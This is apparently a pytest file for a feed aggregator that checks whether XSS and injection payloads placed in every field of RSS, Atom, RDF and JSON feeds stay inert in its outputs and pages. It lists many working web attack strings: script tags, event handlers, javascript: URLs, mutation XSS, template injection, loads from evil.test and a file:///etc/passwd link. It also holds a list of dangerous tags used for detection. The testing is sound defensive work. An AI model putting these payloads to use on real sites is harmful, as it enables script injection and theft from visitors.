"""Every payload class in every field of every format, polled by a whole hub: nothing of it acts in any output."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import httpx
import pytest
from hubs import Newsroom
from lxml import etree, html
from outlets import Stand, words

from feedhub.directory import output_directory
from feedhub.feeds import StoreBackend
from feedhub.store import Database

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "script unclosed": "<script src=//evil.test/x.js",
    "script nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in svg": "<svg><script xlink:href='data:,alert(1)'/></svg>",
    "namespaced script": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "handler": "<img src=x onerror=alert(1)>",
    "handler without quotes": "<b onmouseover=alert(1)//>b</b>",
    "handler after a slash": "<svg/onload=alert(1)>",
    "handler in capitals": "<IMG SRC=x OnErRoR=alert(1)>",
    "handler behind a null": "<img src=x on\x00error=alert(1)>",
    "javascript": "<a href=javascript:alert(1)>a</a>",
    "javascript in capitals": "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "javascript behind blanks": "<a href=' \t\n javascript:alert(1)'>a</a>",
    "javascript with a tab": "<a href='java\tscript:alert(1)'>a</a>",
    "javascript in entities": "<a href='&#106;&#97;vascript&colon;alert(1)'>a</a>",
    "javascript behind a control": "<a href='\x01javascript:alert(1)'>a</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>a</a>",
    "data page": "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "data picture": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "form": "<form action=//evil.test/><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "frame": "<iframe src=//evil.test/></iframe><frame src=//evil.test/>",
    "srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=//evil.test/x.swf></object><embed src=//evil.test/x.swf>",
    "base": "<base href=//evil.test/>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "stylesheet": "<link rel=stylesheet href=//evil.test/x.css>",
    "style": "<style>@import '//evil.test/x.css'</style><b style='background:url(//evil.test/x)'>b</b>",
    "tracker": "<img src=http://evil.test/pixel.gif width=1 height=1>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "math": "<math><mi xlink:href='javascript:alert(1)'>m</mi></math>",
    "template": "<template><script>alert(1)</script></template>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "textarea": "<textarea></textarea><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "the end of CDATA": "]]><script>alert(1)</script><![CDATA[",
    "an entry": "</description></item><item><title>x</title><script/></item>",
    "jinja": "{{ 7 * 7 }}{% import os %}",
    "controls": "\x00\x07\x1b[2J\x7f\u2028",
    "a noncharacter": "\ufffe\uffff",
    "a lone surrogate": "\ud800",
    "right to left": "\u202eevil\u2066",
    "xss in attribute": '"><script>alert(1)</script>',
    "xss in attribute, single": "' onclick='alert(1)",
}
ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "//evil.test/x",
    'http://p.test/"><script>alert(1)</script>',
    "http://p.test/' onclick='alert(1)",
    "http://[::1/",
    "http://p.test:99999999/",
)
HARMLESS = {"http", "https", "mailto", "tag", "urn", ""}


def text_of(number: int, payload: str) -> str:
    """A text of its own for every entry, so that none is taken for a copy of another."""
    return f"<p>{words(number)}</p>{payload}<p>{words(number + 5000)}</p>"


def legal(text: str) -> str:
    """As an XML document can carry it: what is illegal, as the reference that a careless writer makes of it."""
    return "".join(
        c if c in "\t\n" or 0x20 <= ord(c) < 0xD800 or 0xE000 <= ord(c) < 0xFFFE else f"&#{ord(c)};" for c in text
    )


def x(text: str) -> str:
    return legal(escape(text))


def rss(number: int, payload: str, address: str) -> str:
    return (
        f"<item><guid isPermaLink='false'>{x(payload)}{number}</guid><title>{x(payload)} {words(number)[:30]}</title>"
        f"<link>{x(address)}</link><description>{x(payload)}</description><author>{x(payload)}</author>"
        f"<content:encoded>{x(text_of(number, payload))}</content:encoded><category domain='{x(address)}'>{x(payload)}"
        f"</category><comments>{x(address)}</comments><dc:creator>{x(payload)}</dc:creator><dc:rights>{x(payload)}</dc:rights>"
        f"<enclosure url='{x(address)}' type='{x(payload)}' length='{x(payload)}'/>"
        f"<source url='{x(address)}'>{x(payload)}</source><media:content url='{x(address)}' medium='image'>"
        f"<media:credit>{x(payload)}</media:credit><media:description>{x(payload)}</media:description></media:content>"
        f"<media:thumbnail url='{x(address)}'/><media:description>{x(payload)}</media:description>"
        f"<comments>{x(address)}</comments><itunes:summary>{x(payload)}</itunes:summary>"
        f"<itunes:image href='{x(address)}'/><itunes:episode>{x(payload)}</itunes:episode>"
        f"<podcast:transcript url='{x(address)}' type='{x(payload)}' language='{x(payload)}'/>"
        f"<podcast:chapters url='{x(address)}'/><podcast:season>{x(payload)}</podcast:season>"
        f"<podcast:person role='{x(payload)}' img='{x(address)}' href='{x(address)}'>{x(payload)}</podcast:person>"
        f"<psc:chapters><psc:chapter start='0:30' title='{x(payload)}' href='{x(address)}' image='{x(address)}'/>"
        f"<psc:chapter start='{x(payload)}' title='a'/></psc:chapters><media:player url='{x(address)}'/>"
        f"<enclosure url='https://pod.test/{number}.mp3' type='audio/mpeg'/>"
        f"<itunes:explicit>{x(payload)}</itunes:explicit><itunes:author>{x(payload)}</itunes:author></item>"
    )


def atom(number: int, payload: str, address: str) -> str:
    return (
        f"<entry><id>{x(payload)}{number}</id><title type='html'>{x(payload)} {words(number)[:30]}</title>"
        f"<link href='{x(address)}'/><link rel='enclosure' href='{x(address)}' type='{x(payload)}'/>"
        f"<link rel='via' href='{x(address)}'/><link rel='{x(payload)}' href='{x(address)}'/>"
        f"<author><name>{x(payload)}</name><uri>{x(address)}</uri><email>{x(payload)}</email></author>"
        f"<category term='{x(payload)}' scheme='{x(address)}' label='{x(payload)}'/>"
        f"<rights type='html'>{x(payload)}</rights>"
        f"<summary type='html'>{x(payload)}</summary><source><id>{x(payload)}</id><title>{x(payload)}</title>"
        f"<link href='{x(address)}'/></source><content type='html' xml:base='{x(address)}' xml:lang='{x(payload)}'>"
        f"{x(text_of(number, payload))}</content></entry>"
    )


def rdf(number: int, payload: str, address: str) -> str:
    return (
        f"<item rdf:about='{x(address)}#{number}'><title>{x(payload)} {words(number)[:30]}</title>"
        f"<link>{x(address)}</link><description>{x(payload)}</description><dc:creator>{x(payload)}</dc:creator>"
        f"<dc:subject>{x(payload)}</dc:subject>"
        f"<content:encoded>{x(text_of(number, payload))}</content:encoded></item>"
    )


def jsonfeed(number: int, payload: str, address: str) -> dict[str, Any]:
    return {
        "id": f"{payload}{number}",
        "url": address,
        "external_url": address,
        "title": f"{payload} {words(number)[:30]}",
        "content_html": text_of(number, payload),
        "summary": payload,
        "image": address,
        "banner_image": address,
        "language": payload,
        "authors": [{"name": payload, "url": address, "avatar": address}],
        "tags": [payload],
        "attachments": [{"url": address, "mime_type": payload, "title": payload, "size_in_bytes": payload}],
    }


SPACES = (
    "xmlns:content='http://purl.org/rss/1.0/modules/content/' xmlns:dc='http://purl.org/dc/elements/1.1/' "
    "xmlns:media='http://search.yahoo.com/mrss/' xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd' "
    "xmlns:podcast='https://podcastindex.org/namespace/1.0' xmlns:psc='http://podlove.org/simple-chapters'"
)


def document(kind: str, payload: str, first: int, addresses: Sequence[str]) -> bytes:
    """A feed of one entry for each address, all its fields and its head full of one payload."""
    make: dict[str, Callable[[int, str, str], Any]] = {"rss": rss, "atom": atom, "rdf": rdf, "json": jsonfeed}
    made = [make[kind](first + n, payload, address) for n, address in enumerate(addresses)]
    if kind == "json":
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": payload, "home_page_url": ADDRESSES[0]}
        return json.dumps({**feed, "feed_url": ADDRESSES[1], "items": made}).encode()
    inner, title = "".join(made), x(payload)
    if kind == "rss":
        text = f"<rss version='2.0' {SPACES}><channel><title>{title}</title><link>{ADDRESSES[0]}</link>"
        text += f"<description>{title}</description><language>{title}</language>{inner}</channel></rss>"
    elif kind == "atom":
        text = f"<feed xmlns='http://www.w3.org/2005/Atom'><title>{title}</title><id>{title}</id>{inner}</feed>"
    else:
        text = "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'"
        text += f" {SPACES}><channel><title>{title}</title></channel>{inner}</rdf:RDF>"
    return text.encode("utf-8", "surrogatepass")


def acts(markup: str) -> Iterator[str]:
    """Everything in a piece of HTML that could do something, fetch unasked, or lead where no page is."""
    tree = html.fragment_fromstring(markup, create_parent="div")
    for node in tree.iter(etree.Element):
        if node.tag in DANGEROUS:
            yield f"<{node.tag}>"
        for name, value in node.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action", "background", "ping"):
                yield f"{node.tag} {name}"
            if name.rpartition(":")[2] in ("href", "src", "cite", "srcset", "poster") and not is_harmless(value):
                yield f"{node.tag} {name}={value}"
        if node.tag == "img" and "evil.test/pixel" in (node.get("src") or ""):
            yield "a tracker"


def test_the_judge_of_outputs_sees_what_acts() -> None:
    harmless = {"jinja", "controls", "a noncharacter", "a lone surrogate", "right to left", "comment", "an entry"}
    harmless |= {
        "namespaced script",
        "script nested",
        "conditional comment",
        "xss in attribute, single",
        "handler behind a null",
        "mutation",
        "noscript",
    }
    given = {name: payload for name, payload in PAYLOADS.items() if payload.isprintable()}
    missed = [name for name, payload in given.items() if not list(acts(payload))]
    assert set(missed) <= harmless


#: of MathML, what acts or holds HTML
DANGEROUS = frozenset(
    "script style iframe frame frameset object embed applet form input button select textarea base meta link svg "
    "maction annotation annotation-xml mglyph template noscript".split()
)


def is_harmless(address: str) -> bool:
    bare = "".join(c for c in address if c > " ")
    try:
        return urlsplit(bare).scheme.lower() in HARMLESS
    except ValueError:
        return False


def entries(name: str, body: bytes) -> Iterator[tuple[list[str], list[str]]]:
    """Markup and addresses of every entry of an output."""
    if name.endswith(".json"):
        for item in json.loads(body)["items"]:
            links = [item.get(key) for key in ("url", "external_url", "image", "banner_image")]
            links += [part["url"] for part in item.get("attachments", ())]
            yield [item.get("content_html") or ""], [link for link in links if link]
        return
    root = etree.fromstring(body)
    for entry in root.iter("{*}entry", "{*}item"):
        markup = [node.text or "" for node in entry.iter("{*}content", "{*}summary", "{*}description", "{*}encoded")]
        links = [value for node in entry.iter() for key, value in node.items() if key in ("href", "url", "src", "uri")]
        links += [node.text or "" for node in entry.iter("{*}link", "{*}comments") if node.text]
        if root.tag == "rss":
            # its texts are plain, and many readers take them for HTML
            texts = entry.iter("title", "category", "source", "{*}creator", "{*}credit")
            markup += [node.text for node in texts if node.text]
        yield markup, links


def pages(client: httpx.Client) -> Iterator[str]:
    """Every page of ours that a visitor can click his way to."""
    seen = {"/", "/feeds/all.html"}
    left = [*seen]
    while left:
        here = left.pop()
        answer = client.get(here)
        if "html" in answer.headers.get("content-type", ""):
            yield answer.text
            for link in html.fromstring(answer.text).iter("a"):
                parts = urlsplit(urljoin(here, link.get("href") or ""))
                turned = parts.query if parts.query.startswith("page=") else ""
                path = f"{parts.path}?{turned}" if turned else parts.path
                if not parts.netloc and path.startswith(("/story/", "/feeds/", "/?page=")) and path not in seen:
                    seen.add(path)
                    left.append(path)


@pytest.mark.parametrize("kind", ["rss", "atom", "rdf", "json"])
def test_nothing_of_any_payload_acts_in_any_output(tmp_path: Path, kind: str) -> None:
    room = Newsroom(tmp_path)
    for place, payload in enumerate(PAYLOADS.values()):
        path = tmp_path / f"s{place}.{'json' if kind == 'json' else 'xml'}"
        # every address with one payload, every payload with one address
        addresses = ADDRESSES[place % len(ADDRESSES) :][:1] if place else ADDRESSES
        path.write_bytes(document(kind, payload, 100 * place, addresses))
        room.source(f"s{place}")
        room.reconfigure(f"s{place}", url=str(path))
    stand = Stand(room)
    assert {each.source: each.remark for each in stand.round().failed} == {}
    count = len(PAYLOADS) + len(ADDRESSES) - 1
    for name, body in outputs(stand).items():
        found = list(entries(name, body))
        assert len(found) >= count
        for markup, links in found:
            assert [wrong for part in markup for wrong in acts(part)] == []
            assert [link for link in links if not is_harmless(link)] == []
    with stand.served() as client:
        shown = list(pages(client))
    assert len(shown) >= 50
    for page in shown:
        main = html.fromstring(page).find(".//main")
        assert main is not None
        assert list(acts(str(etree.tostring(main, encoding="unicode", method="html")))) == []


def outputs(stand: Stand) -> dict[str, bytes]:
    store = Database.open(stand.room.config.database)
    try:
        backend = StoreBackend(store, output_directory(stand.room.config, "test.example,2026"), stand.clock)
        return {name: body.joined() for name, body in backend.files(stand.clock())}
    finally:
        store.close()
